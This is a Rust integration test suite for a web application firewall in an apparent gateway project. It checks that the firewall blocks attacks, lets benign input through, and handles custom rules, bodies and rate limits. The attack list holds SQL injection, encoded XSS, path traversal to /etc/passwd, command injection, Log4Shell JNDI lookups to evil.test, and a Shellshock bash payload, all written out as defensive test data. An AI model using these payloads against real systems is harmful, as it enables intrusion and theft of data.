//! The WAF through the real server: managed groups (with encodings that try to
//! hide attacks), custom rules, actions, and no false positives on ordinary input.

mod common;

use common::{client, json, upstream, Gatehouse};

async fn start() -> Gatehouse {
    let a = upstream::start("a").await;
    Gatehouse::start("waf", &[("A", a.address())])
}

/// Sends a raw request line (clients would normalise or re-encode it).
async fn raw(gh: &Gatehouse, target: &str, headers: &[(&str, &str)]) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(gh.addr("http"))
        .await
        .unwrap();
    let mut req = format!("GET {target} HTTP/1.1\r\nhost: t\r\nconnection: close\r\n");
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).await.unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).await.unwrap();
    out.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[tokio::test]
async fn managed_groups_block_attacks_and_pass_ordinary_input() {
    let gh = start().await;
    let attacks: &[(&str, &[(&str, &str)])] = &[
        ("/w/hello?q=1'%20OR%20'1'='1", &[]),
        (
            "/w/hello?id=1%20UNION%20SELECT%20password%20FROM%20users--",
            &[],
        ),
        ("/w/hello?q=%2527%20or%201%3D1--", &[]), // double-encoded quote
        ("/w/hello?q=%3Cscript%3Ealert(1)%3C/script%3E", &[]),
        (
            "/w/hello?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            &[],
        ), // double encoding
        ("/w/hello?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E", &[]), // mixed case
        ("/w/hello?img=%3Cimg%20src=x%20onerror=alert(1)%3E", &[]),
        ("/w/hello?file=../../etc/passwd", &[]),
        ("/w/hello?file=..%252f..%252fetc%252fpasswd", &[]),
        ("/w/hello?file=..%5c..%5cwindows%5cwin.ini", &[]),
        ("/w/hello?host=8.8.8.8%3Bcat%20/etc/hosts", &[]),
        ("/w/hello?cmd=x%7C%7Cwhoami", &[]),
        ("/w/hello?x=$(id)", &[]),
        ("/w/hello", &[("user-agent", "${jndi:ldap://evil.test/a}")]),
        (
            "/w/hello",
            &[("x-api-version", "${${lower:j}ndi:ldap://evil.test/a}")],
        ),
        (
            "/w/hello",
            &[("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
        ),
        (
            "/w/hello",
            &[("cookie", "session=abc; pref=1'%20or%20'1'%3D'1")],
        ),
        // Commands behind a path or shell quoting.
        ("/w/hello?host=x%3B/usr/bin/id", &[]),
        ("/w/hello?host=x%7Cc'a't%20notes.txt", &[]),
        ("/w/hello?host=x%3Bw%5Cho%5Eami", &[]),
        // A value of only letters, digits and `_.-` is inspected too.
        ("/w/hello?id=1--", &[]),
        // HTML entities, `%u`, full-width and JavaScript escapes decoded.
        (
            "/w/hello?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
            &[],
        ),
        (
            "/w/hello?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
            &[],
        ),
        (
            "/w/hello?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
            &[],
        ),
        (
            "/w/hello?q=%5Cu003cscript%5Cu003ealert(1)%5Cu003c/script%5Cu003e",
            &[],
        ),
    ];
    for (target, headers) in attacks {
        assert_eq!(
            raw(&gh, target, headers).await,
            403,
            "not blocked: {target} {headers:?}"
        );
    }
    let benign: &[&str] = &[
        "/w/hello?name=O'Brien",
        "/w/hello?name=O%27Brien&city=Dublin",
        "/w/hello?q=select%20the%20union%20of%20both%20sets",
        "/w/hello?q=drop%20me%20a%20line%20or%20two",
        "/w/hello?filter=%7B%22name%22%3A%22O'Brien%22%2C%22age%22%3A42%7D",
        "/w/hello?q=1%2B1%3D2",
        // `+` is a space in a query: arithmetic, not SQL.
        "/w/hello?q=(1+2)+(3+4)",
        "/w/hello?price=10-20&sort=-created",
        "/w/hello?email=ann%40example.com",
        "/w/hello?text=I%20%3C3%20rust",
        "/w/hello?path=docs/guide/index.html",
        "/w/hello?q=where%20is%20the%20cat%3F",
        "/w/hello?title=Tom%20%26%20Jerry",
        "/w/files/report.v2.pdf",
    ];
    for target in benign {
        assert_eq!(raw(&gh, target, &[]).await, 200, "false positive: {target}");
    }
}

#[tokio::test]
async fn blocks_name_the_rule_in_the_log_not_the_response() {
    let gh = start().await;
    let resp = client()
        .get(format!("{}?q=1'%20OR%20'1'='1", gh.url("/w/hello")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    let id = resp.headers()["x-request-id"].to_str().unwrap().to_string();
    let body = resp.text().await.unwrap();
    assert!(
        !body.contains("sqli") && !body.contains("managed"),
        "{body}"
    );
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["message"],
        "request blocked"
    );
    let line = gh.wait_stdout(&id).await;
    let entry: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(entry["denied_by"], "waf");
    assert_eq!(entry["rule"], "managed:sqli");
}

#[tokio::test]
async fn custom_rules_ip_sets_transforms_and_actions() {
    let gh = start().await;
    let xff = |ip: &'static str| [("x-forwarded-for", ip)];
    assert_eq!(raw(&gh, "/w/hello", &xff("203.0.113.9")).await, 403);
    assert_eq!(raw(&gh, "/w/hello", &xff("2001:db8::1")).await, 403);
    assert_eq!(raw(&gh, "/w/hello", &xff("192.0.2.1")).await, 200);
    // `allow` ends evaluation: the trusted office passes even the managed groups.
    assert_eq!(
        raw(&gh, "/w/hello?q=1'%20OR%20'1'='1", &xff("198.51.100.7")).await,
        200
    );

    // Transforms see through encoding, case and dot segments.
    for target in ["/w/admin/users", "/w/ADMIN/users", "/w/%61dmin/users"] {
        assert_eq!(raw(&gh, target, &[]).await, 403, "{target}");
    }
    // Traversal behind an encoded slash never gets as far as the WAF.
    assert_eq!(raw(&gh, "/w/x/..%2Fadmin/users", &[]).await, 400);
    let long = format!("/w/hello?q={}", "a".repeat(2100));
    assert_eq!(raw(&gh, &long, &[]).await, 403);
    // base64("DROP   TABLE users")
    assert_eq!(
        raw(
            &gh,
            "/w/hello",
            &[("x-payload", "RFJPUCAgIFRBQkxFIHVzZXJz")]
        )
        .await,
        403
    );

    // `count` lets the request through and counts it.
    assert_eq!(
        raw(&gh, "/w/hello", &[("user-agent", "curl/8.0")]).await,
        200
    );
    let metrics = gh.metrics().await;
    assert!(metrics.contains(
        "gatehouse_waf_matches_total{action=\"count\",rule=\"count-curl\",rule_set=\"edge\"} 1"
    ));
    assert!(metrics.contains("gatehouse_waf_matches_total{action=\"block\",rule=\"banned-networks\",rule_set=\"edge\"} 2"));

    // A route can opt out.
    assert_eq!(raw(&gh, "/w/free/x?q=1'%20OR%20'1'='1", &[]).await, 200);
    let v = json(client().get(gh.url("/w/free/x")).send().await.unwrap()).await;
    assert_eq!(v["free"], true);
}

#[tokio::test]
async fn json_and_form_bodies_are_inspected_then_sent_upstream_whole() {
    let gh = start().await;
    let c = client();
    let post = |path: &'static str, ctype: &'static str, body: String| {
        c.post(gh.url(path))
            .header("content-type", ctype)
            .body(body)
            .send()
    };
    // Clean bodies pass, and the upstream gets every byte.
    let clean =
        r#"{"name":"O'Brien","note":"select the union of both sets","tags":["a","b"]}"#.to_string();
    let resp = post("/w/bodies/x", "application/json", clean.clone())
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(json(resp).await["body_len"], clean.len());
    let resp = post(
        "/w/bodies/x",
        "application/x-www-form-urlencoded",
        "name=O%27Brien&city=Cork".into(),
    )
    .await
    .unwrap();
    assert_eq!(resp.status(), 200);

    // Attacks nested in JSON, in form fields, or caught by a body rule.
    for (ctype, body) in [
        (
            "application/json",
            r#"{"user":{"filters":[{"q":"1' OR '1'='1"}]}}"#.to_string(),
        ),
        (
            "application/json",
            r#"{"bio":"<script>alert(1)</script>"}"#.to_string(),
        ),
        (
            "application/x-www-form-urlencoded",
            "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_string(),
        ),
        ("text/plain", "and then: OPEN SESAME".to_string()),
    ] {
        let resp = post("/w/bodies/x", ctype, body.clone()).await.unwrap();
        assert_eq!(resp.status(), 403, "{ctype} {body}");
    }
    // Over the inspection size: `oversize: block` refuses, `continue` passes it on.
    let big = format!(r#"{{"pad":"{}"}}"#, "x".repeat(2000));
    assert_eq!(
        post("/w/bodies/x", "application/json", big.clone())
            .await
            .unwrap()
            .status(),
        403
    );
    let resp = post("/w/lenient/x", "application/json", big.clone())
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(json(resp).await["body_len"], big.len());
    // Invalid UTF-8 and broken JSON are inspected as text, not a crash.
    let resp = c
        .post(gh.url("/w/lenient/x"))
        .header("content-type", "application/json")
        .body(vec![0xff, 0xfe, b'{', b'"'])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
}

#[tokio::test]
async fn rate_based_rules_block_a_flooding_ip_for_a_while() {
    let gh = start().await;
    let from = |ip: &'static str| [("x-forwarded-for", ip)];
    // 192.0.2.50 floods: five requests pass, the sixth and later are blocked.
    for _ in 0..5 {
        assert_eq!(raw(&gh, "/w/flood/x", &from("192.0.2.50")).await, 200);
    }
    for _ in 0..3 {
        assert_eq!(raw(&gh, "/w/flood/x", &from("192.0.2.50")).await, 403);
    }
    // Everyone else is unaffected.
    assert_eq!(raw(&gh, "/w/flood/x", &from("192.0.2.51")).await, 200);
}
